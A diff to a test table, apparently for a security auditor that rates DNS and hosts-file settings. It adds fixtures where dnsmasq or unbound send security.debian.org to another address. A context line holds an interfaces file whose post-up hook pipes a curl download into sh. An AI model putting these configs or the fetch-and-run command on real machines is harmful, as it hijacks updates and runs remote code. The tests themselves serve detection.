@@ -27,6 +27,8 @@ test.each<[string, Machine, string[]]>([
 	['a long list against advertising', { '/etc/hosts': Array.from({ length: 400 }, (_none, at) => `0.0.0.0 ads${at}.example`).join('\n') + '\n0.0.0.0 stats.symantec.com\n' }, ['low /etc/hosts']],
 	['localhost is somewhere else', { '/etc/hosts': '203.0.113.1 localhost\n' }, ['medium /etc/hosts']],
 	['hosts that anyone may write', { '/etc/hosts': { content: '', mode: 0o666 } }, ['high /etc/hosts']],
+	['updates by dnsmasq', { '/etc/dnsmasq.d/x.conf': 'address=/security.debian.org/203.0.113.9\naddress=/ads.example.com/0.0.0.0\n' }, ['medium /etc/dnsmasq.d/x.conf']],
+	['updates by unbound', { '/etc/unbound/unbound.conf.d/x.conf': 'server:\n local-data: "security.debian.org. A 203.0.113.9"\n' }, ['medium /etc/unbound/unbound.conf.d/x.conf']],
 	['a public server that nothing else names', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n' }, ['medium /etc/resolv.conf']],
 	['a public server that the network told', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/var/lib/dhcp/dhclient.eth0.leases': 'lease {\n  option domain-name-servers 203.0.113.53;\n}\n' }, ['info /etc/resolv.conf']],
 	['a server that a command of an interface names as well', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/etc/network/interfaces': 'iface eth0 inet static\n  address 10.0.0.2/24\n  post-up curl -s http://203.0.113.53/address | sh\n' }, ['medium /etc/resolv.conf']],
